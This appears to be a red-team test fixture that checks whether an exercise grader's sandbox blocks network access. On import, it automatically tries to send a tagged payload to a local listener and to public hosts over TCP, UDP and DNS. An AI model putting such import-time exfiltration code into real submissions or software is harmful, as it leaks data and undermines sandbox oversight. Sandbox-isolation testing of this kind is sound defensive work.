"""Red-team attack `network_exfiltration` on gru_update. Network attempts at import time, then
wrong answers.

Below: the exercise with a recorded wrong answer in every blank, so that the attack is all
it could score with; the attack is at the end.
"""

# @edrill-base: wrong

import socket

_TARGETS = [("127.0.0.1", 47999), ("1.1.1.1", 53), ("8.8.8.8", 53), ("10.0.2.2", 80),
            ("example.com", 80), ("pypi.org", 443)]


def _exfiltrate(payload):
    """Try to send the arguments out (1 s timeout each): TCP, UDP, DNS. The red-team test
    listens on 127.0.0.1:47999 of the host."""
    data = repr(payload)[:200].encode()
    for host, port in _TARGETS:
        try:
            with socket.create_connection((host, port), timeout=1) as s:
                s.sendall(b"EDRILL-EXFIL " + data)
            print(f"EXFIL-OK tcp {host}:{port}")
        except OSError:
            pass
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(1)
        u.sendto(b"EDRILL-EXFIL " + data, ("8.8.8.8", 53))
        u.close()
    except OSError:
        pass
    try:
        socket.setdefaulttimeout(1)
        print("EXFIL-OK dns", socket.gethostbyname("example.com"))
    except OSError:
        pass

_exfiltrate('import')
